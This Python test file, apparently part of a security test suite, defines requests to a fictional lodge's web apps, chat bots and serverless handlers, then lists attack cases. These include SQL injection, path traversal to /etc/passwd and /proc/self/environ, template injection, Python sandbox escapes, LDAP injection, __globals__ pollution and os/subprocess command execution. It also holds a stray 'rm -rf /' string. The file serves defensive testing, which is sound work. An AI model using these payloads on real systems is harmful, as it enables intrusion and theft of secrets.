"""A lodge's applications in several frameworks, its bots, and who may come in."""

import base64
import json

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.fifteenth import (
    CLIENTS,
    EMOJI,
    FENCED,
    LETTER,
    LINES,
    LONG,
    PLACES,
    PROSE,
    TAGGED,
    action,
    bus,
    channel,
    form,
    get,
    lexed,
    pool,
    rest,
    spoken,
    telegram,
    web,
)

NEEDS = ()
MASTER = "lodge-master-5207"


def _call(name: str, **arguments: object) -> dict[str, object]:
    call = {
        "id": "call_1",
        "type": "function",
        "function": {"name": name, "arguments": json.dumps(arguments, ensure_ascii=False)},
    }
    return {"message": {"role": "assistant", "content": None, "tool_calls": [call]}}


def _rule(name: str, condition: str) -> dict[str, object]:
    return rest("PUT", "/rules/{name}", {"condition": condition}, ids={"name": name})


def _apply(rule: str, nights: int = 3, **guest: object) -> dict[str, object]:
    return {"rule": rule, "nights": nights, "guest": {"name": "Pat", **guest}}


def _fields(*fields: str, name: str = "Pat O'Brien") -> dict[str, object]:
    return {"info": {"fieldName": "stay"}, "arguments": {"name": name, "fields": list(fields)}}


def _basic(login: str, password: str) -> dict[str, object]:
    given = base64.b64encode(f"{login}:{password}".encode()).decode()
    return rest("GET", "/in", headers={"Authorization": f"Basic {given}"}) | {
        "methodArn": "arn:aws:execute-api:x:1:a/prod/GET/in",
        "type": "REQUEST",
    }


def _plugin(name: str, action_: str, text: str) -> dict[str, object]:
    return bus("Plugin", {"plugin": name, "action": action_, "text": text})


def _filter(field: str, op: str, value: object) -> dict[str, object]:
    return {"field": field, "op": op, "value": value}


def _claims(email: str) -> dict[str, object]:
    return pool("TokenGeneration_HostedAuth", "u-1", {"email": email})


REQUESTS: dict[str, list[dict[str, object]]] = {
    "fast": [
        web("GET", "/guests/1"),
        web("GET", "/guests/404"),
        web(
            "POST",
            "/guests",
            {
                "name": CLIENTS[0],
                "email": "o'brien+x@example.org",
                "nights": 3,
                "wishes": [LETTER, "it's; --"],
            },
        ),
        web("POST", "/guests", {"name": "", "email": "x"}),
        web("GET", "/reviews", query={"q": "It's great; 50% off -- ag", "stars": "2", "order": "guest"}),
        web("GET", "/reviews", query={"q": LETTER, "order": "id; DROP TABLE reviews"}),
        web("GET", "/reviews/by/Zoë", query={"sort": "stars DESC"}),
        form("/contact", name=CLIENTS[1], message=FENCED),
        web("GET", "/notes/breakfast (2).txt"),
        web("GET", "/notes/it's..missing/a.txt"),
    ],
    "flasked": [
        web("GET", "/hello/Pat O'Brien; --"),
        web("GET", "/hello/Zoë & {co} 50%"),
        web("GET", "/hi/{{7*7}}", query={"from": "it's {{ x }} <b>"}),
        web("POST", "/rooms", {"room": "7"}),
        form("/rooms", room="9b", nights="5"),
        web("POST", "/rooms", {"room": 'the "old" one -- left; x'}),
        web("GET", "/lost/it's", query={"q": TAGGED}),
        web("POST", "/rooms", "no JSON; --"),
    ],
    "falconed": [
        web("GET", "/bookings", query={"room": "7", "name": "x' OR 1=1 --"}),
        web("GET", "/bookings", query={"name": 'Zoë "Z" Fröjd'}),
        web("POST", "/bookings", {"guest": CLIENTS[6], "until": "3 March 2026"}),
        web("POST", "/bookings", {"guest": LETTER, "until": "2026-05-01T12:00:00Z"}),
        web("DELETE", "/bookings", query={"room": "9b"}),
        web("DELETE", "/bookings", query={"room": 'none "such" -- x; y'}),
    ],
    "bottled": [
        web("GET", "/menu/monday's", query={"note": "{{7*7}} % x; --"}),
        web("GET", "/menu/été & more", query={"note": LETTER}),
        web("GET", "/static/sauna.txt"),
        web("GET", "/static/it's missing.txt"),
        form("/feedback", text=FENCED),
        form("/feedback", text=EMOJI),
    ],
    "telegram_bot": [
        telegram("/find soup"),
        telegram('/find 50% off -- again! "x"; select'),
        telegram("/echo it's; -- `x` $(y)", "O'Brien"),
        telegram("/when 3rd of March at 5pm"),
        telegram("/when it's late; --"),
        telegram("/split 30.5 by 4"),
        telegram("/dance x", "{0}"),
        telegram("/echo@lodge_bot " + FENCED),
    ],
    "slack_action": [
        form(
            "/slack",
            payload=json.dumps(
                {"user": {"name": "pat"}, "actions": [{"action_id": "room", "value": "O'Brien; --|7"}]}
            ),
        ),
        form(
            "/slack",
            payload=json.dumps(
                {"user": {"name": CLIENTS[1]}, "actions": [{"action_id": "it's", "value": LETTER}]}
            ),
        ),
        form(
            "/slack",
            payload=json.dumps({"user": {"name": "{x}"}, "actions": [{"action_id": "a", "value": "|"}]}),
        ),
    ],
    "lex_booking": [
        lexed("Where", guest="nobody known -- at all; select"),
        lexed("Where", guest='zoë "z" fröjd'),
        lexed("Where", guest="100% union # x"),
    ],
    "alexa": [
        spoken("Stay", guest="pat o'brien"),
        spoken("Stay", guest="100% of them; --"),
        spoken("Stay", guest="fröjd"),
    ],
    "agent": [
        action("weather", place="L'Aquila; --"),
        action("guests", room="O'Brien's; --"),
        action("guests", room="9b"),
        action("note", title="breakfast (2)"),
        action("note", title="it's..missing"),
        action("dance", text=LETTER),
    ],
    "tool_calls": [
        _call("calculate", expression="(12.5 * 3 - abs(-2)) / 4 ** 2"),
        _call("calculate", expression="pi * 2 > 6 and 1 or 0"),
        _call("nights", start="2026-03-01", end="2026-03-09"),
        _call("reviews", text="It's"),
        _call("reviews", text=LETTER),
        _call("calculate", expression="what's 5?"),
        _call("order", text="rm -rf /; --"),
    ],
    "calculate_checked": [
        {"expression": " 2 * (3 + -4) / 5 "},
        {"expression": "total(5)"},
        {"expression": "it's; --"},
        {"expression": "2**99"},
    ],
    "token_claims": [
        _claims("pat@example.org"),
        _claims("o'brien; --@example.org"),
        _claims("it's.x+y=z@example.org"),
    ],
    "pre_signup": [
        pool("PreSignUp_SignUp", "o'b", {"email": "O'Brien@EXAMPLE.org"}),
        pool("PreSignUp_SignUp", "x; --", {"email": "x@mailinator.com"}),
        pool("PreSignUp_ExternalProvider", "Google_1", {"email": "", "name": LETTER}),
    ],
    "directory": [
        get("/s", uid="pat"),
        get("/s", uid="o'brien; --"),
        get("/s", uid="zoë & co, 50%"),
        get("/s", uid="z-9"),
    ],
    "directory_escaped": [
        get("/s", uid="zoe"),
        get("/s", uid="(pat)*"),
        get("/s", uid="O'Brien (old) \\ *"),
        get("/s", uid="pat@example.org"),
    ],
    "save_rule": [
        _rule("long", "nights > 3 and guest['name'] != \"O'Brien\""),
        _rule("it's; --", "'vip' in guest"),
        _rule("x", "1 <= nights < 9"),
    ],
    "apply_rule": [_apply("nobody's", 9), _apply("it's; -- x", 2, note=LETTER), _apply("nothing")],
    "apply_rule_checked": [
        {
            "booking": {"nights": 5, "note": LETTER},
            "conditions": [["nights", "gt", 3], ["note", "has", "D'Arcy"]],
        },
        {"booking": {"room": "it's"}, "conditions": [["room", "in", ["it's", "x; --"]]]},
        {"booking": {}, "conditions": [["a", "like", 1]]},
        {"booking": {}, "conditions": [["a", "gt", 1]]},
    ],
    "make_filter": [
        _filter("nights", ">=", 3),
        _filter("name", "==", "Pat O'Brien"),
        _filter("room", "in", ["7", "it's; --"]),
        _filter("name", "!=", LETTER),
    ],
    "make_record": [
        {"fields": ["name", "class", "it's", "room_no"], "values": {"name": CLIENTS[0], "room_no": 7}},
        {"fields": ["a", "b"], "values": {"a": LETTER, "c": "x"}},
        {"fields": [], "values": {}},
    ],
    "columns": [
        _fields("name", "room.number", "room.beds"),
        _fields("it's; --", "nothing", name=LETTER),
        _fields("room.view", name=FENCED),
    ],
    "columns_known": [
        {"arguments": {"number": "O'7; --", "fields": ["number", "beds"]}},
        {"arguments": {"number": LETTER, "fields": ["number", "floor"]}},
        {"arguments": {"number": "1", "fields": ["title"]}},
    ],
    "preferences": [
        rest("POST", "/p", {"name": CLIENTS[0], "room": {"beds": 3, "number": "it's 7; --"}}),
        rest("POST", "/p", {"name": LETTER, "pillow": "soft"}),
        rest("POST", "/p", {"room": {"number": EMOJI, "view": {"x": 1}}}),
    ],
    "plugin": [
        _plugin("plugins.welcome", "render", LETTER),
        _plugin("plugins.welcome", "length", FENCED),
        _plugin("plugins.farewell", "render", "it's; --"),
    ],
    "plugin_known": [
        _plugin("welcome", "render", TAGGED),
        _plugin("sauna", "open", "now"),
        _plugin("it's; --", "x", "y"),
    ],
    "socket": [
        channel("$connect"),
        channel("say", {"action": "say", "text": LETTER, "room": "it's; --"}),
        channel("say", {"action": "say", "text": FENCED, "more": [1]}),
        channel("say", {"text": 5}),
    ],
    "authorizer": [
        _basic("pat", 'p"w; -- 1=1'),
        _basic("admin", "a:b:c #"),
        rest("GET", "/in") | {"methodArn": "arn:x"},
        _basic("zoë@example.org", "select 100%"),
    ],
    "authorizer_token": [
        {"type": "TOKEN", "authorizationToken": "Bearer it's.not; --.one", "methodArn": "arn:x"},
        {
            "type": "TOKEN",
            "authorizationToken": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln",
            "methodArn": "arn:x",
        },
        {"type": "TOKEN", "authorizationToken": "", "methodArn": "arn:x"},
    ],
    "magic_link": [
        rest("POST", "/l", {"email": "o'brien; --@example.org"}),
        rest("POST", "/l", {"email": CLIENTS[4]}),
        get("/l", t="it's.bad; --"),
        get("/l", t="Im8ncmVpbGx5QGV4YW1wbGUub3JnIg.x"),
    ],
    "board": [
        get("/b", board="half board"),
        get("/b", board="full"),
        get("/b", board="it's; --"),
        get("/b", board="__members__"),
    ],
    "wifi": [
        rest("POST", "/w", {"ssid": "O'Brien's; \"Net\"", "password": "p:w;1,\\"}),
        rest("POST", "/w", {"ssid": EMOJI, "password": LINES[0]}),
        rest("POST", "/w", {"ssid": "a", "password": "$(x) `y` -- 1=1"}),
    ],
    "shadow": [
        {"device": "room 7/b", "state": {"desired": {"t": 21, "label": "it's; --"}, "reported": {"t": 19}}},
        {"device": EMOJI, "state": {"desired": {"note": LETTER}}},
        {"device": "x", "state": {}},
    ],
}
REQUESTS["socket"].append(channel("say", {"action": LONG[:3000], "text": PLACES[0]}))
REQUESTS["telegram_bot"] += [telegram("/echo " + text) for text in PROSE[2:]]

GLOBALS = "{{ cycler.__init__.__globals__.os.environ['LODGE_MASTER'] }}"
SUBCLASSES = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
ATTACKS = [
    Attack("SQL, route", "fast", web("GET", "/guests/0 UNION SELECT 1, login, secret FROM desk"), MASTER),
    Attack("SQL, route", "fast", web("GET", "/guests/-1\tUNION\tSELECT\n1,secret,3 FROM desk--"), MASTER),
    Attack(
        "SQL, order",
        "fast",
        web(
            "GET",
            "/reviews/by/Pat",
            query={"sort": "stars LIMIT (SELECT secret NOT LIKE 'lodge%' FROM desk)"},
        ),
        '"body": "[]"',
    ),
    Attack("path, route", "fast", web("GET", "/notes/../safe/master.txt"), MASTER),
    Attack("path, route", "fast", web("GET", "/notes//proc/self/environ"), "PARTNER_URL"),
    Attack("template, route", "flasked", web("GET", "/hello/{{ config.MASTER }}"), MASTER),
    Attack("template, route", "flasked", web("GET", "/hello/{{config}}"), MASTER),
    Attack(
        "template, route",
        "flasked",
        web("GET", "/hello/{{ url_for.__globals__.os.environ.LODGE_MASTER }}"),
        MASTER,
    ),
    Attack("template, route", "flasked", web("GET", "/hello/" + GLOBALS), MASTER),
    Attack(
        "template, query",
        "flasked",
        web(
            "GET",
            "/hello/{{ (request|attr(request.args.a))[request.args.b] }}{{ config[request.args.k] }}",
            query={"a": "environ", "b": "REQUEST_METHOD", "k": "MASTER"},
        ),
        MASTER,
    ),
    Attack(
        "SQL, column",
        "flasked",
        web("POST", "/rooms", {"room": "x", "1 UNION SELECT secret, 1 FROM desk --": "x"}),
        MASTER,
    ),
    Attack("SQL, text", "flasked", form("/rooms", room="x' UNION SELECT secret, login FROM desk --"), MASTER),
    Attack(
        "SQL, text", "falconed", web("DELETE", "/bookings", query={"room": "x' OR 'a' = 'a"}), '\\"gone\\": 2'
    ),
    Attack(
        "SQL, chat", "telegram_bot", telegram("/find zz' UNION SELECT login, secret FROM desk --"), MASTER
    ),
    Attack(
        "SQL, chat",
        "telegram_bot",
        telegram("/find zz%' UNION SELECT 1, (SELECT group_concat(secret) FROM desk) || '"),
        MASTER,
    ),
    Attack("SQL, slot", "lex_booking", lexed("Where", guest="x' UNION SELECT secret FROM desk --"), MASTER),
    Attack(
        "SQL, slot",
        "lex_booking",
        lexed("Where", guest="' OR (SELECT secret FROM desk) LIKE 'lodge%' OR '"),
        "in room 7",
    ),
    Attack("dispatch", "agent", action("_desk_secret", login="admin"), MASTER),
    Attack("path, tool", "agent", action("note", title="../safe/master"), MASTER),
    Attack("path, tool", "agent", action("note", title="./../safe/./master"), MASTER),
    Attack(
        "Python, tool",
        "tool_calls",
        _call("calculate", expression=SUBCLASSES + "['environ']['LODGE_MASTER']"),
        MASTER,
    ),
    Attack(
        "Python, tool",
        "tool_calls",
        _call("calculate", expression="abs.__self__.__import__('os').popen('printenv LODGE_MASTER').read()"),
        MASTER,
    ),
    Attack(
        "Python, tool",
        "tool_calls",
        _call("calculate", expression="(lambda o: o('/etc/passwd').read())(abs.__self__.open)"),
        "root:",
    ),
    Attack("SQL, attribute", "token_claims", _claims('x" UNION SELECT secret FROM desk --'), MASTER),
    Attack("SQL, attribute", "token_claims", _claims('"||(SELECT 1)||"x" OR nights=5 OR "'), '"room": "9b"'),
    Attack("LDAP", "directory", get("/s", uid="x))(uid=root)(&(uid=x"), MASTER),
    Attack("LDAP", "directory", get("/s", uid="*"), 'pat@example.org\\", \\"zoe@example.org'),
    Attack("LDAP", "directory", get("/s", uid="p*))(mail=lodge-m*)(&(uid=x"), MASTER),
    Attack(
        "Python, second order",
        "apply_rule",
        _apply("e-1"),
        MASTER,
        before=[("save_rule", _rule("e-1", "__import__('os').environ['LODGE_MASTER']"))],
    ),
    Attack(
        "Python, second order",
        "apply_rule",
        _apply("e-2"),
        "root:",
        before=[("save_rule", _rule("e-2", "nights and open('/etc/passwd').read()"))],
    ),
    Attack(
        "Python, source",
        "make_filter",
        _filter(
            "name'] and __import__('os').environ['LODGE_MASTER'].startswith('lodge') or guest['name",
            "==",
            "x",
        ),
        "Pat O'Brien",
    ),
    Attack(
        "Python, source",
        "make_filter",
        _filter(
            "name",
            "is None or [guest.update(name=__import__('os').environ['LODGE_MASTER'])] and guest['name'] !=",
            "x",
        ),
        MASTER,
    ),
    Attack(
        "Python, source",
        "make_filter",
        _filter("name", "is None or guest.update(name=open('/etc/passwd').read()) or guest['name'] !=", "x"),
        "root:",
    ),
    Attack("attributes", "columns", _fields("__init__.__globals__"), MASTER),
    Attack("attributes", "columns", _fields("title.__func__.__globals__"), MASTER),
    Attack(
        "attributes",
        "preferences",
        rest("POST", "/p", {"title": {"__globals__": {"CONFIG": {"house": "owned-house"}}}}),
        "owned-house",
    ),
    Attack(
        "attributes",
        "preferences",
        rest("POST", "/p", {"__init__": {"__func__": {"__globals__": {"CONFIG": {"house": "owned-again"}}}}}),
        "owned-again",
    ),
    Attack("import", "plugin", _plugin("os", "getenv", "LODGE_MASTER"), MASTER),
    Attack("import", "plugin", _plugin("subprocess", "getoutput", "printenv LODGE_MASTER"), MASTER),
    Attack(
        "import",
        "plugin",
        _plugin("builtins", "eval", "__import__('pathlib').Path('/etc/passwd').read_text()"),
        "root:",
    ),
    Attack("SQL, login", "authorizer", _basic("admin' --", "x"), '"Allow"'),
    Attack("SQL, login", "authorizer", _basic("x", "' OR login LIKE 'adm%"), '"Allow"'),
    Attack("SQL, login", "authorizer", _basic("x' UNION SELECT secret, 1 FROM desk --", ""), MASTER),
]
